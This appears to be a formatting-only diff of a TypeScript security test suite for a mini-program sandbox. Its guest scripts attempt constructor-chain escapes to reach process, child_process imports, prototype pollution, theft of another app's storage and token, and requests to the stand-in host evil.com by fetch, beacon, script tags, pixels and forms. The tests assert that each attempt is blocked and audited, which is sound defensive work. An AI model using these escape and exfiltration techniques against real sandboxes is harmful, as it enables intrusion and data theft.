@@ -29,7 +29,9 @@ const launchWith = async (id: string, body: string, manifest = {}) => {
 
 describe('escape attempts from a sandboxed mini-program', () => {
   it('constructor chains from globals, bridge functions, and the errors and promises the bridge returns', async () => {
-    const app = await launchWith('com.partner.chains', `
+    const app = await launchWith(
+      'com.partner.chains',
+      `
       const chains = {
         globalThis: () => globalThis.constructor.constructor('return process')(),
         window: () => window.constructor.constructor('return process')(),
@@ -50,7 +52,8 @@ describe('escape attempts from a sandboxed mini-program', () => {
       await attempt('bridgePromise', () => promise.constructor.constructor('return process')());
       const value = await promise;
       await attempt('bridgeResult', () => value.constructor.constructor('return process')());
-    `);
+    `,
+    );
     const r = await doneOf(app);
     expect(Object.keys(r)).toHaveLength(14);
     for (const [name, outcome] of Object.entries(r)) {
@@ -65,7 +68,9 @@ describe('escape attempts from a sandboxed mini-program', () => {
   });
 
   it('require, process, module, Buffer and dynamic import() are not there', async () => {
-    const app = await launchWith('com.partner.nodeapis', `
+    const app = await launchWith(
+      'com.partner.nodeapis',
+      `
       await attempt('require', () => require('fs'));
       await attempt('process', () => process.env);
       await attempt('module', () => module.exports);
@@ -73,9 +78,16 @@ describe('escape attempts from a sandboxed mini-program', () => {
       await attempt('globalProcess', () => globalThis.process.mainModule);
       await attempt('dynamicImport', () => Promise.race([import('node:child_process').then((m) => m.execSync), new Promise((_, rej) => setTimeout(() => rej(Object.assign(new Error(), { code: 'NOT_RESOLVED' })), 500))]));
       setTimeout(() => { process.exit(1); }, 0);
-    `);
+    `,
+    );
     const r = await doneOf(app);
-    expect(r).toMatchObject({ require: 'ReferenceError', process: 'ReferenceError', module: 'ReferenceError', bufferChain: expect.stringMatching(/^(ReferenceError|EvalError)$/), globalProcess: 'TypeError' });
+    expect(r).toMatchObject({
+      require: 'ReferenceError',
+      process: 'ReferenceError',
+      module: 'ReferenceError',
+      bufferChain: expect.stringMatching(/^(ReferenceError|EvalError)$/),
+      globalProcess: 'TypeError',
+    });
     expect(r.dynamicImport).not.toMatch(/ESCAPED/);
     // The uncaught attempt (process.exit in a timer) is reported and audited as an escape caught.
     await new Promise((r) => setTimeout(r, 200));
@@ -85,14 +97,17 @@ describe('escape attempts from a sandboxed mini-program', () => {
   });
 
   it('prototype pollution carried across the bridge reaches neither the host nor another app', async () => {
-    const app = await launchWith('com.partner.pollute', `
+    const app = await launchWith(
+      'com.partner.pollute',
+      `
       Object.prototype.polluted = 'guest';
       Array.prototype.polluted = 'guest';
       await attempt('protoKey', () => MiniAppBridge.call('storage.set', JSON.parse('{"key":"k","value":"v","__proto__":{"polluted":"via-proto"}}')));
       await attempt('constructorKey', () => MiniAppBridge.call('storage.set', { key: 'k2', value: 'v', constructor: { prototype: { polluted: 'via-constructor' } } }));
       await attempt('protoAsKey', () => MiniAppBridge.call('storage.set', { key: '__proto__', value: '{"polluted":1}' }));
       await attempt('readBack', async () => { const r = await MiniAppBridge.call('storage.get', { key: '__proto__' }); return 'value ' + JSON.stringify(r); });
-    `);
+    `,
+    );
     const r = await doneOf(app);
     expect(r.readBack).toMatch(/ESCAPED:value/); // an ordinary key, stored as data: not an escape, just a key
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
@@ -102,19 +117,28 @@ describe('escape attempts from a sandboxed mini-program', () => {
   });
 
   it("another app's storage and token are out of reach", async () => {
-    const owner = await launchWith('com.partner.owner', `
+    const owner = await launchWith(
+      'com.partner.owner',
+      `
       await MiniAppBridge.call('storage.set', { key: 'secret', value: 's3cret' });
       const t = await MiniAppBridge.call('auth.getToken', { scope: 'profile' });
       console.log('TOKEN ' + t.token);
-    `);
+    `,
+    );
     await doneOf(owner);
-    const token = owner.host.snapshot().console.find((c) => c.text.startsWith('TOKEN '))!.text.slice(6);
-    const thief = await launchWith('com.partner.thief', `
+    const token = owner.host
+      .snapshot()
+      .console.find((c) => c.text.startsWith('TOKEN '))!
+      .text.slice(6);
+    const thief = await launchWith(
+      'com.partner.thief',
+      `
       for (const key of ['secret', 'com.partner.owner:secret', '../com.partner.owner/secret', 'com.partner.owner/secret']) {
         await attempt(key, async () => { const r = await MiniAppBridge.call('storage.get', { key }); if (r.value === 's3cret' || r === 's3cret') return 'stolen'; throw Object.assign(new Error(), { code: 'NOT_FOUND' }); });
       }
       await attempt('keys', async () => { const r = await MiniAppBridge.call('storage.keys', {}); if (JSON.stringify(r).includes('secret')) return 'listed'; throw Object.assign(new Error(), { code: 'NONE' }); });
-    `);
+    `,
+    );
     const r = await doneOf(thief);
     expect(Object.values(r).every((v) => !String(v).startsWith('ESCAPED'))).toBe(true);
     // A backend given the owner's token on behalf of the thief refuses it, and the check is audited.
@@ -125,12 +149,14 @@ describe('escape attempts from a sandboxed mini-program', () => {
     expect(h.audit.events.some((e) => e.type === 'storage.access' && e.app === 'com.partner.thief')).toBe(true);
   });
 
-  it('a page cannot plant anything on the sandbox realm\'s prototypes (the root of the forged-message and Buffer-deprecation chains)', async () => {
+  it("a page cannot plant anything on the sandbox realm's prototypes (the root of the forged-message and Buffer-deprecation chains)", async () => {
     // A DOM object's prototype chain ends at the sandbox realm's Object.prototype. A toJSON planted there
     // rewrote the sandbox's messages; a getter such as noDeprecation, called by Node with this ===
     // process through window.Buffer(1)'s deprecation warning, handed the page the sandbox's process.
     // That realm's prototypes are frozen before the page runs, and Buffer is not on the window.
-    const app = await launchWith('com.partner.planter', `
+    const app = await launchWith(
+      'com.partner.planter',
+      `
       let p = document, top; while (p) { top = p; p = Object.getPrototypeOf(p); }
       await attempt('sameRealm', () => { if (top === Object.prototype) throw Object.assign(new Error(), { code: 'SAME_REALM' }); return 'other realm'; });
       await attempt('toJSON', () => { top.toJSON = function () { return null; }; if (top.toJSON) return 'planted'; throw Object.assign(new Error(), { code: 'NOT_PLANTED' }); });
@@ -139,7 +165,8 @@ describe('escape attempts from a sandboxed mini-program', () => {
       await attempt('buffer', () => window.Buffer(1));
       await attempt('global', () => window.global.process);
       await attempt('GLOBAL', () => window.GLOBAL.process);
-    `);
+    `,
+    );
     const r = await doneOf(app);
     expect(r).toEqual({ sameRealm: 'ESCAPED:other realm', toJSON: 'NOT_PLANTED', getter: 'TypeError', functionProto: 'TypeError', buffer: 'TypeError', global: 'TypeError', GLOBAL: 'TypeError' });
     // The app itself keeps running, and so do the host and other apps.
@@ -149,7 +176,9 @@ describe('escape attempts from a sandboxed mini-program', () => {
   });
 
   it('every network bypass is refused by the host and audited as blocked', async () => {
-    const app = await launchWith('com.partner.netbypass', `
+    const app = await launchWith(
+      'com.partner.netbypass',
+      `
       const urls = {
         otherHost: 'https://evil.com/x',
         plainHttp: 'http://api.partner.com/x',
@@ -179,15 +208,38 @@ describe('escape attempts from a sandboxed mini-program', () => {
       await new Promise((r) => setTimeout(r, 50));
       // Last: a form navigates the page away.
       setTimeout(() => { const f = document.createElement('form'); f.action = 'https://evil.com/form'; f.method = 'post'; document.body.appendChild(f); f.submit(); }, 0);
-    `);
+    `,
+    );
     const r = await doneOf(app);
     for (const [name, outcome] of Object.entries(r)) expect([name, outcome]).toEqual([name, expect.not.stringMatching(/^ESCAPED/)]);
     await new Promise((r) => setTimeout(r, 100));
     // A URL with userinfo never leaves the guest: its own fetch refuses to build the request.
     const events = h.audit.events.filter((e) => e.type === 'network.blocked' && e.app === 'com.partner.netbypass');
     const blocked = events.map((e) => e.url);
-    expect(blocked).toEqual(expect.arrayContaining(['https://evil.com/x', 'http://api.partner.com/x', 'https://api.partner.com.evil.com/x', 'https://127.0.0.1/x', 'https://api.partner.com./x', 'https://api.partner.com:8443/x', 'https://api.xn--prtner-3nf.com/x', 'wss://evil.com/x', 'https://evil.com/beacon']));
-    expect(blocked).toEqual(expect.arrayContaining(['https://evil.com/sync', 'https://evil.com/classic.js', 'https://evil.com/module.js', 'https://evil.com/style.css', 'https://evil.com/pixel.gif?d=1', 'https://evil.com/frame.html', 'https://evil.com/form']));
+    expect(blocked).toEqual(
+      expect.arrayContaining([
+        'https://evil.com/x',
+        'http://api.partner.com/x',
+        'https://api.partner.com.evil.com/x',
+        'https://127.0.0.1/x',
+        'https://api.partner.com./x',
+        'https://api.partner.com:8443/x',
+        'https://api.xn--prtner-3nf.com/x',
+        'wss://evil.com/x',
+        'https://evil.com/beacon',
+      ]),
+    );
+    expect(blocked).toEqual(
+      expect.arrayContaining([
+        'https://evil.com/sync',
+        'https://evil.com/classic.js',
+        'https://evil.com/module.js',
+        'https://evil.com/style.css',
+        'https://evil.com/pixel.gif?d=1',
+        'https://evil.com/frame.html',
+        'https://evil.com/form',
+      ]),
+    );
     for (const e of events) expect(e).toMatchObject({ code: 'DOMAIN_NOT_ALLOWED', reason: expect.any(String), method: expect.any(String) });
     expect(events.find((e) => e.url === 'https://evil.com/sync')).toMatchObject({ api: 'xhr', method: 'GET' });
     expect(events.find((e) => e.url === 'https://evil.com/classic.js')).toMatchObject({ api: 'script' });
